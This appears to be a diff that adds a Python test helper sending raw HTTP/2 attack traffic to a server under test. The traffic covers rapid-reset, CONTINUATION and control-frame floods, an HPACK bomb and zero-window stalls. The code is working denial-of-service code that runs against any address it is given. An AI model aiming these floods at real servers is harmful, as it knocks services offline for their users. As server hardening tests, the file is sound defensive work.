@@ -1,0 +1,269 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: Apache-2.0
+"""Raw HTTP/2 frames a well-behaved client library would never send, for the
+HTTP/2 safety tests (tests/integration/test_h2safety.py): floods, HPACK
+bombs, stalled windows and malformed requests. Frames are built with
+hyperframe and header blocks with hpack (python3-h2's dependencies), with no
+validation, over prior-knowledge h2c.
+
+Run it with Debian's python (/usr/bin/python3).
+
+usage: h2_attack.py --connect ADDR:PORT [--timeout S] [--no-ack] ATTACK N [JSON]
+
+--no-ack: the server's SETTINGS are never acknowledged (so its stream limit
+is only pending: streams past it are refused rather than a connection error).
+
+ATTACK:
+  rapid-reset N     N times HEADERS (GET) then RST_STREAM (CANCEL)
+  continuation N    HEADERS without END_HEADERS, then N CONTINUATIONs
+  hpack-bomb N      one header block: a 4000-byte field indexed, then N
+                    one-byte references to it
+  ping N, settings N, window-update N, priority N, empty-data N (on one open
+                    POST stream), empty-headers N (a new stream each)
+                    N frames of that kind
+  streams N         N GET streams (JSON: the path) without reading in between
+  zero-window N     SETTINGS_INITIAL_WINDOW_SIZE 0, GET JSON's path, never a
+                    WINDOW_UPDATE; waits up to N seconds for the stream's end
+  request N         JSON {"headers": [[name, value], ...], "data": [text, ...],
+                    "end": true}: one stream exactly so (N ignored)
+
+Prints one JSON object: {"sent": frames written before the connection
+failed, "goaway": error code of the first GOAWAY or null, "goaway_at",
+"closed": whether the server closed, "rst": {stream: code}, "status":
+{stream: status}, "body": {stream: text (first 64 KiB)}, "end_at": when the
+watched stream ended (zero-window), "error": text or null}; times in seconds
+from the start. Exits 0 when it could say what happened, 2 on bad usage.
+"""
+
+import argparse
+import json
+import socket
+import sys
+import threading
+import time
+
+import hpack
+from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
+                              PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+CANCEL = 8
+KEEP = 64 * 1024
+
+
+class Peer:
+    """The connection; a thread reads the server's frames into the report."""
+
+    def __init__(self, addr, timeout, ack=True):
+        self.ack = ack
+        host, port = addr.rsplit(":", 1)
+        self.t0 = time.monotonic()
+        self.sock = socket.create_connection((host, int(port)), timeout=timeout)
+        self.enc = hpack.Encoder()
+        self.dec = hpack.Decoder()
+        self.dec.max_allowed_table_size = 1 << 16
+        self.rep = {"sent": 0, "goaway": None, "goaway_at": None, "closed": False, "rst": {},
+                    "status": {}, "body": {}, "end_at": None, "error": None}
+        self.ended = {}
+        self.lock = threading.Lock()
+        self.wlock = threading.Lock()  # the reader's SETTINGS ACK and the floods interleave whole
+        self.cond = threading.Condition(self.lock)
+        self.reader = threading.Thread(target=self.read_loop, daemon=True)
+        # The preface and its SETTINGS in one write, before the reader can ACK.
+        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
+        self.reader.start()
+
+    def now(self):
+        return round(time.monotonic() - self.t0, 3)
+
+    def send(self, *frames):
+        """Writes frames; False once the server is gone."""
+        try:
+            with self.wlock:
+                self.sock.sendall(b"".join(f.serialize() for f in frames))
+        except OSError as e:
+            with self.lock:
+                self.rep["error"] = self.rep["error"] or f"send: {e}"
+            return False
+        self.rep["sent"] += len(frames)
+        return True
+
+    def read_loop(self):
+        buf = b""
+        while True:
+            try:
+                d = self.sock.recv(65536)
+            except socket.timeout:
+                continue
+            except OSError:
+                d = b""
+            if not d:
+                with self.cond:
+                    self.rep["closed"] = True
+                    self.cond.notify_all()
+                return
+            buf += d
+            while len(buf) >= 9:
+                f, length = Frame.parse_frame_header(memoryview(buf[:9]))
+                if len(buf) < 9 + length:
+                    break
+                f.parse_body(memoryview(buf[9:9 + length]))
+                buf = buf[9 + length:]
+                with self.cond:
+                    self.on_frame(f)
+                    self.cond.notify_all()
+
+    def on_frame(self, f):
+        sid = str(f.stream_id)
+        if isinstance(f, SettingsFrame) and "ACK" not in f.flags and self.ack:
+            threading.Thread(target=self.send, args=(SettingsFrame(0, flags=["ACK"]),), daemon=True).start()
+        elif isinstance(f, GoAwayFrame):
+            if self.rep["goaway"] is None:
+                self.rep["goaway"] = f.error_code
+                self.rep["goaway_at"] = self.now()
+        elif isinstance(f, RstStreamFrame):
+            self.rep["rst"][sid] = f.error_code
+            self.ended[sid] = self.now()
+        elif isinstance(f, HeadersFrame):
+            # A block in one frame: isthmus's answers are small.
+            for k, v in self.dec.decode(f.data):
+                if k == ":status":
+                    self.rep["status"][sid] = int(v)
+        elif isinstance(f, DataFrame):
+            b = self.rep["body"].get(sid, "")
+            if len(b) < KEEP:
+                self.rep["body"][sid] = b + f.data.decode("latin-1")[:KEEP - len(b)]
+        if isinstance(f, (HeadersFrame, DataFrame)) and "END_STREAM" in f.flags:
+            self.ended[sid] = self.now()
+
+    def wait(self, pred, timeout):
+        """Waits (bounded) until pred() holds or the server closed."""
+        end = time.monotonic() + timeout
+        with self.cond:
+            while not pred() and not self.rep["closed"]:
+                left = end - time.monotonic()
+                if left <= 0:
+                    return False
+                self.cond.wait(left)
+            return pred()
+
+    def block(self, headers):
+        return self.enc.encode([(k.encode(), v.encode()) for k, v in headers])
+
+    def settings(self, **kv):
+        if kv:
+            self.send(SettingsFrame(0, settings={getattr(SettingsFrame, k): v for k, v in kv.items()}))
+
+
+def get_headers(path="/", method="GET"):
+    return [(":method", method), (":scheme", "http"), (":path", path), (":authority", "attack.test")]
+
+
+def flood(p, frames, n, batch=200):
+    """Sends n frames of frames(i) in batches until the server goes."""
+    i = 0
+    while i < n and not p.rep["closed"] and p.rep["goaway"] is None:
+        k = min(batch, n - i)
+        if not p.send(*(frames(i + j) for j in range(k))):
+            break
+        i += k
+
+
+def run(p, attack, n, arg):
+    if attack == "rapid-reset":
+        def pair(i):
+            sid = 1 + 2 * (i // 2)
+            if i % 2 == 0:
+                return HeadersFrame(sid, p.block(get_headers("/")), flags=["END_HEADERS", "END_STREAM"])
+            return RstStreamFrame(sid, error_code=CANCEL)
+        p.settings()
+        flood(p, pair, 2 * n)
+    elif attack == "continuation":
+        p.settings()
+        first = p.block(get_headers("/"))
+        p.send(HeadersFrame(1, first, flags=["END_STREAM"]))
+        flood(p, lambda i: ContinuationFrame(1, p.block([(f"x-c{i}", "v" * 64)])), n, batch=50)
+    elif attack == "hpack-bomb":
+        p.settings()
+        big = hpack.Encoder()
+        blk = big.encode(get_headers("/")) + big.encode([("x-bomb", "a" * 4000)])
+        # Index 62: the newest entry of the dynamic table, x-bomb.
+        blk += bytes([0x80 | 62]) * n
+        frames, size = [], 16384
+        chunks = [blk[i:i + size] for i in range(0, len(blk), size)]
+        for i, c in enumerate(chunks):
+            flags = ["END_HEADERS"] if i == len(chunks) - 1 else []
+            frames.append(HeadersFrame(1, c, flags=flags + ["END_STREAM"]) if i == 0
+                          else ContinuationFrame(1, c, flags=flags))
+        p.send(*frames)
+        p.wait(lambda: "1" in p.ended, 10)
+    elif attack in ("ping", "settings", "window-update", "priority", "empty-headers"):
+        p.settings()
+        make = {
+            "ping": lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")),
+            "settings": lambda i: SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0}),
+            "window-update": lambda i: WindowUpdateFrame(0, window_increment=1),
+            "priority": lambda i: PriorityFrame(1 + 2 * i, depends_on=0, stream_weight=16),
+            "empty-headers": lambda i: HeadersFrame(1 + 2 * i, b"", flags=["END_HEADERS", "END_STREAM"]),
+        }[attack]
+        flood(p, make, n)
+    elif attack == "empty-data":
+        p.settings()
+        p.send(HeadersFrame(1, p.block(get_headers(arg or "/", "POST")), flags=["END_HEADERS"]))
+        flood(p, lambda i: DataFrame(1, b""), n)
+    elif attack == "streams":
+        p.settings()
+        flood(p, lambda i: HeadersFrame(1 + 2 * i, p.block(get_headers(arg or "/")),
+                                        flags=["END_HEADERS", "END_STREAM"]), n)
+    elif attack == "zero-window":
+        p.settings(INITIAL_WINDOW_SIZE=0)
+        p.send(HeadersFrame(1, p.block(get_headers(arg)), flags=["END_HEADERS", "END_STREAM"]))
+        p.wait(lambda: "1" in p.ended, n)
+        p.rep["end_at"] = p.ended.get("1")
+        return
+    elif attack == "request":
+        spec = json.loads(arg)
+        p.settings()
+        # Raw: hpack encodes what it is given, names and values unchecked.
+        blk = p.enc.encode([(k.encode("latin-1"), v.encode("latin-1")) for k, v in spec["headers"]])
+        data = spec.get("data", [])
+        end = spec.get("end", True)
+        # One write: the server reads the stream's frames together.
+        p.send(HeadersFrame(1, blk, flags=["END_HEADERS"] + (["END_STREAM"] if end and not data else [])),
+               *(DataFrame(1, d.encode("latin-1"), flags=["END_STREAM"] if end and i == len(data) - 1 else [])
+                 for i, d in enumerate(data)))
+        p.wait(lambda: "1" in p.ended, 10)
+        return
+    else:
+        raise ValueError(attack)
+    # Whatever the server answers to the flood, until it closes (bounded).
+    p.wait(lambda: False, 3 if p.rep["goaway"] is not None else 2)
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--connect", required=True)
+    ap.add_argument("--timeout", type=float, default=30)
+    ap.add_argument("--no-ack", action="store_true", help="never acknowledge the server's SETTINGS")
+    ap.add_argument("attack")
+    ap.add_argument("n", type=int)
+    ap.add_argument("arg", nargs="?", default="")
+    a = ap.parse_args()
+    try:
+        p = Peer(a.connect, a.timeout, ack=not a.no_ack)
+    except OSError as e:
+        print(json.dumps({"error": f"connect: {e}"}))
+        return 0
+    try:
+        run(p, a.attack, a.n, a.arg)
+    except ValueError as e:
+        print(f"h2_attack.py: {e}", file=sys.stderr)
+        return 2
+    with p.lock:
+        print(json.dumps(p.rep))
+    p.sock.close()
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
